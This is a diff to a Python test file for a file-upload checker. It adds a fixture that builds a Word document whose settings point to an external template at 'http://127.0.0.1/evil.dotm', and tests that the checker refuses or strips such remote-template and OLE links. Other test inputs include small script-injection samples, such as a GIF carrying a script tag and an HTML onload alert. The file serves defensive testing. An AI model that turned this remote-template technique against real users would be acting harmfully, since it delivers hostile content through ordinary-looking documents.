@@ -36,6 +36,24 @@ def office_declaring(part, encoding="utf-8"):
     return out.getvalue()
 
 
+def office_linking(kind):
+    """A Word file whose settings name a part that lies elsewhere, as Word writes it."""
+    relations = "http://schemas.openxmlformats.org/"
+    links = (
+        f'<Relationships xmlns="{relations}package/2006/relationships"><Relationship Id="rId1" TargetMode="External" '
+        f'Type="{relations}officeDocument/2006/relationships/{kind}" Target="http://127.0.0.1/evil.dotm"/></Relationships>'
+    )
+    word = f'xmlns:w="{relations}wordprocessingml/2006/main" xmlns:r="{relations}officeDocument/2006/relationships"'
+    out = io.BytesIO(packed(word__document_xml="x"))
+    with zipfile.ZipFile(out, "a") as archive:
+        archive.writestr("word/_rels/settings.xml.rels", links)
+        archive.writestr(
+            "word/settings.xml",
+            f'<w:settings {word}><w:zoom w:percent="90"/><w:attachedTemplate r:id="rId1"/></w:settings>',
+        )
+    return out.getvalue()
+
+
 SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><rect width="3" height="3"/></svg>'
 
 
@@ -79,6 +97,7 @@ def test_the_bytes_decide_what_a_file_is(name, data, kept_as, media_type):
         (office_declaring('application/vnd.ms-excel.sheet.macroEnabled.main+xml"', "utf-16"), "macros"),
         (packed(mimetype="application/vnd.oasis.opendocument.text", Basic__script_xml="x"), "macros"),
         (packed(word__document_xml="x", word__media="\0" * 210_000_000), "Unpacked"),
+        (office_linking("oleObject"), "fetches a part of itself from elsewhere"),
         (b"<html><body onload=alert(1)>", "web page"),
         (b"GIF89a <script>alert(1)</script>", "JPEG or PNG"),
         (b"\x00\x00\x00\x18ftypheic", "JPEG or PNG"),
@@ -94,6 +113,21 @@ def test_the_bytes_decide_what_a_file_is(name, data, kept_as, media_type):
 def test_what_does_not_come_in_says_why(data, words):
     with pytest.raises(Refused, match=words):
         check(sent("file.pdf", data))
+
+
+def test_a_word_file_names_no_template_that_lies_elsewhere():
+    clean = check(sent("agreement.docx", office_linking("attachedTemplate"))).data
+    with zipfile.ZipFile(io.BytesIO(clean)) as archive:
+        parts = {name: archive.read(name) for name in archive.namelist()}
+    assert sorted(parts) == ["word/_rels/settings.xml.rels", "word/document.xml", "word/settings.xml"]
+    assert not [name for name, data in parts.items() if b"evil" in data or b"attachedTemplate" in data]
+    assert b'percent="90"' in parts["word/settings.xml"]
+
+
+@pytest.mark.parametrize("kind", ["hyperlink", "image"])
+def test_what_a_word_file_points_at_stays_as_it_is(kind):
+    data = office_linking(kind)
+    assert check(sent("agreement.docx", data)).data == data
 
 
 def test_a_file_larger_than_the_bound_is_not_read(settings):
